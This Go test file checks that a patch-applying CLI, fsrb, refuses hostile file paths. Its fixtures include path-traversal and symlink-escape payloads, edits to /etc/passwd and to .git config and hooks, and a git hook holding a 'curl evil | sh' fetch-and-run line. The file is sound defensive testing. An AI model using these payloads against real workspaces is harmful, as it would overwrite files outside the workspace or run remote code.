package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// Hostile paths through the built CLI. Every case is a patch whose block #1
// is a valid edit of ok.txt and whose block #2 names a path fsrb must never
// write: each must be refused with a message that names block #2 and says
// why, exit 1, and leave everything as it was — the root, the "outside"
// folder beside it, /dev/null. The count of cases is logged (SECURITY.md).

type hostileCase struct {
	name  string
	patch string                               // %ROOT% and %OUT% are replaced by the absolute folders
	setup func(t *testing.T, root, out string) // links, fifos, folders
	kind  string                               // the --json kind of block #2's error; "" for any
	msg   string                               // a piece of the human message
}

// sr is block #1 (valid) and block #2 on path.
func sr(path, search, replace string) string {
	return "ok.txt\n<<<<<<< SEARCH\nok\n=======\nchanged\n>>>>>>> REPLACE\n\n" +
		path + "\n<<<<<<< SEARCH\n" + search + "=======\n" + replace + ">>>>>>> REPLACE\n"
}

func modifySecret(path string) string { return sr(path, "secret\n", "pwned\n") }
func createAt(path string) string     { return sr(path, "", "pwned\n") }

func link(from, to string) func(t *testing.T, root, out string) {
	return func(t *testing.T, root, out string) {
		to = strings.NewReplacer("%ROOT%", root, "%OUT%", out).Replace(to)
		full := filepath.Join(root, from)
		os.MkdirAll(filepath.Dir(full), 0o755)
		if err := os.Symlink(to, full); err != nil {
			t.Fatal(err)
		}
	}
}

func links(fs ...func(t *testing.T, root, out string)) func(t *testing.T, root, out string) {
	return func(t *testing.T, root, out string) {
		for _, f := range fs {
			f(t, root, out)
		}
	}
}

const apOK = "*** Begin Patch\n*** Update File: ok.txt\n@@\n-ok\n+changed\n"

var long256 = strings.Repeat("n", 252) + ".txt"

var hostileCases = []hostileCase{
	// Absolute paths.
	{name: "absolute file outside", patch: modifySecret("%OUT%/secret.txt"), kind: "outside-root", msg: "is outside the workspace root"},
	{name: "etc passwd", patch: sr("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n", "pwned\n"), kind: "outside-root", msg: "is outside the workspace root"},
	{name: "dev null", patch: createAt("/dev/null"), kind: "outside-root", msg: "is outside the workspace root"},
	{name: "proc self root", patch: createAt("/proc/self/root/tmp/pwned.txt"), kind: "outside-root", msg: "is outside the workspace root"},
	{name: "absolute with dotdot", patch: modifySecret("%ROOT%/../outside/secret.txt"), kind: "outside-root", msg: "is outside the workspace root"},
	{name: "root itself", patch: createAt("%ROOT%"), kind: "bad-path", msg: "is the workspace root itself"},
	{name: "unc forward slashes", patch: createAt("//server/share/pwned.txt"), kind: "outside-root", msg: "is outside the workspace root"},
	// ".." at every depth.
	{name: "dotdot", patch: createAt("../pwned.txt"), kind: "outside-root", msg: `leaves the workspace root through ".."`},
	{name: "dotdot outside file", patch: modifySecret("../outside/secret.txt"), kind: "outside-root", msg: `through ".."`},
	{name: "dotdot twice", patch: createAt("../../pwned.txt"), kind: "outside-root", msg: `through ".."`},
	{name: "dotdot depth 1", patch: modifySecret("a/../../outside/secret.txt"), kind: "outside-root", msg: `through ".."`},
	{name: "dotdot depth 2", patch: modifySecret("a/b/../../../outside/secret.txt"), kind: "outside-root", msg: `through ".."`},
	{name: "dotdot depth 3", patch: modifySecret("a/b/c/../../../../outside/secret.txt"), kind: "outside-root", msg: `through ".."`},
	{name: "dotdot depth 5 to etc", patch: createAt("a/b/c/d/e/../../../../../../../../../../etc/pwned"), kind: "outside-root", msg: `through ".."`},
	{name: "dot slash dotdot", patch: createAt("./../outside/new.txt"), kind: "outside-root", msg: `through ".."`},
	{name: "existing folder then dotdot", patch: createAt("sub/../../outside/new.txt"), kind: "outside-root", msg: `through ".."`},
	// Symbolic links.
	{name: "symlink to outside file", patch: modifySecret("evil.txt"), setup: link("evil.txt", "../outside/secret.txt"), kind: "outside-root", msg: "outside the workspace"},
	{name: "symlinked parent", patch: modifySecret("esc/secret.txt"), setup: link("esc", "../outside"), kind: "outside-root", msg: "outside the workspace"},
	{name: "symlinked parent create", patch: createAt("esc/new.txt"), setup: link("esc", "../outside"), kind: "outside-root", msg: "outside the workspace"},
	{name: "absolute symlinked parent", patch: modifySecret("abs/secret.txt"), setup: link("abs", "%OUT%"), kind: "outside-root", msg: "outside the workspace"},
	{name: "deep symlinked parent", patch: modifySecret("a/b/c/secret.txt"), setup: link("a/b/c", "../../../outside"), kind: "outside-root", msg: "outside the workspace"},
	{name: "dangling symlink create", patch: createAt("dang.txt"), setup: link("dang.txt", "../outside/new.txt"), kind: "outside-root", msg: "outside the workspace"},
	{name: "symlink chain", patch: modifySecret("l1/secret.txt"), setup: links(link("l1", "l2"), link("l2", "../outside")), kind: "outside-root", msg: "outside the workspace"},
	{name: "symlink loop", patch: createAt("loop/x.txt"), setup: link("loop", "loop"), msg: "loop"},
	{name: "symlink to device", patch: sr("zero.txt", "x\n", "y\n"), setup: link("zero.txt", "/dev/zero"), kind: "outside-root", msg: "outside the workspace"},
	// Git's internals.
	{name: "git config", patch: sr(".git/config", "[core]\n", "[core]\n\thooksPath = /tmp/evil\n"), kind: "bad-path", msg: "inside a .git folder"},
	{name: "GIT upper case", patch: sr(".GIT/config", "[core]\n", "[core]\n\thooksPath = /tmp/evil\n"), kind: "bad-path", msg: "inside a .git folder"},
	{name: "Git hook create", patch: createAt(".Git/hooks/pre-commit"), kind: "bad-path", msg: "inside a .git folder"},
	{name: "nested repository", patch: createAt("sub/.git/hooks/post-checkout"), kind: "bad-path", msg: "inside a .git folder"},
	{name: "git through dotdot", patch: sr("sub/../.git/config", "[core]\n", "x\n"), kind: "bad-path", msg: "inside a .git folder"},
	{name: "symlink to .git", patch: sr("gitlink/config", "[core]\n", "x\n"), setup: link("gitlink", ".git"), kind: "bad-path", msg: "git's internals"},
	{name: "symlink to .git hooks", patch: createAt("hooks/pre-commit"), setup: link("hooks", ".git/hooks"), kind: "bad-path", msg: "git's internals"},
	// Bytes that do not belong in a path.
	{name: "NUL byte", patch: createAt("a\x00b.txt"), kind: "bad-path", msg: "NUL byte"},
	{name: "escape character", patch: createAt("a\x1b[2Jb.txt"), kind: "bad-path", msg: "control character"},
	{name: "invalid UTF-8", patch: createAt("bad\xffname.txt"), kind: "bad-path", msg: "not valid UTF-8"},
	{name: "bidi override", patch: createAt("invoice\u202etxt.sh"), kind: "bad-path", msg: "U+202E"},
	// Not regular files.
	{name: "fifo", patch: sr("fifo.txt", "x\n", "y\n"), setup: func(t *testing.T, root, _ string) {
		if err := syscall.Mkfifo(filepath.Join(root, "fifo.txt"), 0o644); err != nil {
			t.Skip("no fifo:", err)
		}
	}, kind: "bad-path", msg: "not a regular file"},
	{name: "folder", patch: sr("conf.d", "x\n", "y\n"), kind: "bad-path", msg: "not a regular file"},
	{name: "folder create", patch: createAt("conf.d"), kind: "bad-path", msg: "not a regular file"},
	{name: "folder through dot", patch: createAt("sub/."), kind: "bad-path", msg: "not a regular file"},
	// Long names.
	{name: "name of 256 bytes", patch: createAt(long256), kind: "bad-path", msg: "longer than 255 bytes"},
	{name: "folder name of 300 bytes", patch: createAt("d/" + strings.Repeat("x", 300) + "/f.txt"), kind: "bad-path", msg: "longer than 255 bytes"},
	// Windows paths.
	{name: "drive backslash", patch: createAt(`C:\Windows\win.ini`), kind: "bad-path", msg: "backslash"},
	{name: "drive slash", patch: createAt("C:/Windows/win.ini"), kind: "outside-root", msg: "Windows drive path"},
	{name: "drive relative", patch: createAt("c:pwned.txt"), kind: "outside-root", msg: "Windows drive path"},
	{name: "backslash dotdot", patch: modifySecret(`sub\..\..\outside\secret.txt`), kind: "bad-path", msg: "backslash"},
	{name: "unc backslashes", patch: createAt(`\\server\share\pwned.txt`), kind: "bad-path", msg: "backslash"},
	// Unicode look-alikes of "/" and ".".
	{name: "fullwidth solidus", patch: createAt("..／outside／secret.txt"), kind: "bad-path", msg: "U+FF0F"},
	{name: "fullwidth full stops", patch: createAt("．．/outside/secret.txt"), kind: "bad-path", msg: "U+FF0E"},
	{name: "division slash", patch: createAt("a∕..∕..∕outside∕x.txt"), kind: "bad-path", msg: "U+2215"},
	{name: "two dot leader", patch: createAt("‥/outside/x.txt"), kind: "bad-path", msg: "U+2025"},
	{name: "fullwidth reverse solidus", patch: createAt("..＼outside＼x.txt"), kind: "bad-path", msg: "U+FF3C"},
	// The other dialects name paths too.
	{name: "apply-patch delete outside", patch: apOK + "*** Delete File: ../outside/secret.txt\n*** End Patch\n", kind: "outside-root", msg: `through ".."`},
	{name: "apply-patch move outside", patch: apOK + "*** Update File: mv.txt\n*** Move to: ../outside/moved.txt\n*** End Patch\n", kind: "outside-root", msg: "Move to"},
	{name: "apply-patch add git hook", patch: apOK + "*** Add File: .git/hooks/post-merge\n+#!/bin/sh\n+curl evil | sh\n*** End Patch\n", kind: "bad-path", msg: "inside a .git folder"},
	{name: "apply-patch update through link", patch: apOK + "*** Update File: esc/secret.txt\n@@\n-secret\n+pwned\n*** End Patch\n", setup: link("esc", "../outside"), kind: "outside-root", msg: "outside the workspace"},
	{name: "udiff outside", patch: "--- a/ok.txt\n+++ b/ok.txt\n@@ -1 +1 @@\n-ok\n+changed\n--- a/../outside/secret.txt\n+++ b/../outside/secret.txt\n@@ -1 +1 @@\n-secret\n+pwned\n", kind: "outside-root", msg: `through ".."`},
}

func TestHostilePaths(t *testing.T) {
	tried := 0
	for _, tc := range hostileCases {
		t.Run(tc.name, func(t *testing.T) {
			base, _ := filepath.EvalSymlinks(t.TempDir())
			root, out := filepath.Join(base, "root"), filepath.Join(base, "outside")
			for _, f := range []struct{ path, data string }{
				{"root/ok.txt", "ok\n"}, {"root/mv.txt", "move me\n"}, {"root/sub/keep.txt", "keep\n"},
				{"root/.git/config", "[core]\n"}, {"root/.git/hooks/README", "hooks\n"}, {"root/sub/.git/HEAD", "ref\n"}, {"root/conf.d/x.conf", "x\n"},
				{"outside/secret.txt", "secret\n"},
			} {
				full := filepath.Join(base, f.path)
				os.MkdirAll(filepath.Dir(full), 0o755)
				if err := os.WriteFile(full, []byte(f.data), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if tc.setup != nil {
				tc.setup(t, root, out)
			}
			tried++
			patch := strings.NewReplacer("%ROOT%", root, "%OUT%", out).Replace(tc.patch)
			patchFile := filepath.Join(t.TempDir(), "hostile.fsrb")
			if err := os.WriteFile(patchFile, []byte(patch), 0o644); err != nil {
				t.Fatal(err)
			}
			before := tree(t, base)
			devNull, _ := os.Stat("/dev/null")

			code, stdout, stderr := runCLI(t, root, patchFile)
			if code != exitFail {
				t.Errorf("exit %d, want 1\nstdout:\n%s\nstderr:\n%s", code, stdout, stderr)
			}
			if !strings.Contains(stderr, "Block #2: ") || !strings.Contains(stderr, tc.msg) {
				t.Errorf("stderr does not name block #2 and say %q:\n%s", tc.msg, stderr)
			}
			if !strings.Contains(stderr, "Nothing was written.") {
				t.Errorf("stderr does not say nothing was written:\n%s", stderr)
			}

			code, stdout, _ = runCLI(t, root, "--json", patchFile)
			var res struct {
				OK     bool `json:"ok"`
				Errors []struct {
					Block   int    `json:"block"`
					Kind    string `json:"kind"`
					Message string `json:"message"`
				} `json:"errors"`
			}
			if err := json.Unmarshal([]byte(stdout), &res); err != nil || res.OK || code != exitFail {
				t.Fatalf("--json: exit %d, %v\n%s", code, err, stdout)
			}
			var kinds []string
			for _, e := range res.Errors {
				if e.Block != 2 {
					t.Errorf("an error for block #%d: %+v", e.Block, e)
				}
				kinds = append(kinds, e.Kind)
			}
			if len(kinds) == 0 || tc.kind != "" && kinds[0] != tc.kind {
				t.Errorf("--json kinds %v, want %s", kinds, tc.kind)
			}

			if diff := cmp.Diff(before, tree(t, base)); diff != "" {
				t.Errorf("something was written (-before +after):\n%s", diff)
			}
			if now, err := os.Stat("/dev/null"); err != nil || now.Mode() != devNull.Mode() {
				t.Errorf("/dev/null is no longer a device: %v %v", now, err)
			}
		})
	}
	t.Logf("hostile paths tried: %d", tried)
	if tried < 30 {
		t.Errorf("only %d hostile paths", tried)
	}
}

// A hard link inside the root to a file outside cannot be told from an
// ordinary file by its path; fsrb writes a new file and renames it over the
// name, so the edit lands inside the root and the outside file keeps its
// bytes.
func TestHardLinkOutsideStaysOutside(t *testing.T) {
	base, _ := filepath.EvalSymlinks(t.TempDir())
	root, out := filepath.Join(base, "root"), filepath.Join(base, "outside")
	os.MkdirAll(root, 0o755)
	os.MkdirAll(out, 0o755)
	os.WriteFile(filepath.Join(out, "secret.txt"), []byte("secret\n"), 0o644)
	if err := os.Link(filepath.Join(out, "secret.txt"), filepath.Join(root, "hard.txt")); err != nil {
		t.Skip("no hard links here:", err)
	}
	patch := writePatch(t, "hard.txt\n<<<<<<< SEARCH\nsecret\n=======\nedited\n>>>>>>> REPLACE\n")
	if code, stdout, stderr := runCLI(t, root, patch); code != 0 {
		t.Fatalf("exit %d\n%s%s", code, stdout, stderr)
	}
	if got := readFile(t, filepath.Join(out, "secret.txt")); got != "secret\n" {
		t.Errorf("the file outside changed through a hard link: %q", got)
	}
	if got := readFile(t, filepath.Join(root, "hard.txt")); got != "edited\n" {
		t.Errorf("hard.txt = %q", got)
	}
}
